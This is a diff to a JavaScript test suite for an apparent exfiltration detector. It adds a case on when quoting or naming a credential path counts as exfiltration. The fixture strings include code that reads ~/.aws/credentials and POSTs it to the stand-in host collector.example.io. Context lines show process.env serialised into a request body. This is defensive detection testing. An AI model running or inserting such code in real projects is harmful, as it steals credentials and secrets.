@@ -15,6 +15,15 @@ describe('correlation: exfiltration', () => {
     assert.match(x.message, /^Sends AWS credentials .* in a network request to collector\.example\.io$/);
   });
 
+  it('does not call a message that quotes a credential path sending the credentials; reading the file through a helper does', () => {
+    const quoted = 'async function r(u){await fetch("https://collector.example.io/u",{method:"POST",body:JSON.stringify({error:"missing ~/.aws/credentials"})})}';
+    assert.deepEqual(only('exfiltration', quoted), []);
+    const named = 'const p=require("path"),o=require("os");async function r(){const f=p.join(o.homedir(),".aws","credentials");await fetch("https://collector.example.io/u?file="+f)}';
+    assert.deepEqual(only('exfiltration', named), [], 'the path alone is a name');
+    const helper = 'const fs=require("fs");function load(f){return fs.readFileSync(f,"utf8")}\nasync function r(){await fetch("https://collector.example.io/u",{method:"POST",body:load("/home/u/.aws/credentials")})}';
+    assert.deepEqual(only('exfiltration', helper).map(f => f.severity), ['high']);
+  });
+
   it('flags the whole environment serialised into a request body in a closure', () => {
     const code = 'function f(u){return async()=>{await fetch(u,{body:JSON.stringify(process.env)})}}';
     assert.equal(only('exfiltration', code)[0].severity, 'high');
